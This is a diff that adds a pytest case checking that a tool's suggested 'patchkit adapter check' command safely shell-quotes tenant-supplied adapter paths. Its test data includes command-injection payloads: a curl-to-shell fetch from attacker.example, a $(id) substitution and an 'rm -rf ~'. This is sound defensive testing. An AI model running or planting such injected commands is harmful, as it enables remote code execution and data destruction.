@@ -475,3 +475,28 @@ def test_a_large_log_is_read_in_memory_bounded_by_the_report_not_the_file(tmp_pa
     found = json.loads(done.stdout)
     assert found["records"] == step * 40 + 1 and found["steps"] == step + 1
     assert (only(found)["request"], only(found)["layer"]) == ("req-7", 3)
+
+
+@pytest.mark.parametrize(
+    "path, command",
+    [
+        ("/srv/adapters/tenant-17", "patchkit adapter check /srv/adapters/tenant-17"),
+        (
+            "/srv/x;curl${IFS}attacker.example|sh;#",
+            "patchkit adapter check '/srv/x;curl${IFS}attacker.example|sh;#'",
+        ),
+        ("/srv/it's $(id)", "patchkit adapter check '/srv/it'\"'\"'s $(id)'"),
+        ("/srv/x\n; rm -rf ~", "patchkit adapter check DIR"),
+        (None, "patchkit adapter check DIR"),
+    ],
+)
+def test_the_next_command_is_safe_to_paste_whatever_path_a_tenant_loaded(path, command):
+    """The quarantined adapter's path comes from whoever called /v1/load_lora_adapter:
+    the suggested command carries it as one shell word, or not at all."""
+    import shlex
+
+    from patchkit.probe.report import Quarantine
+
+    found = Quarantine(0, 0, "evil", 7, path, 3, "self_attn.o_proj", "lora_B", 0, 1)
+    assert found.command() == command
+    assert len(shlex.split(found.command())) == 4
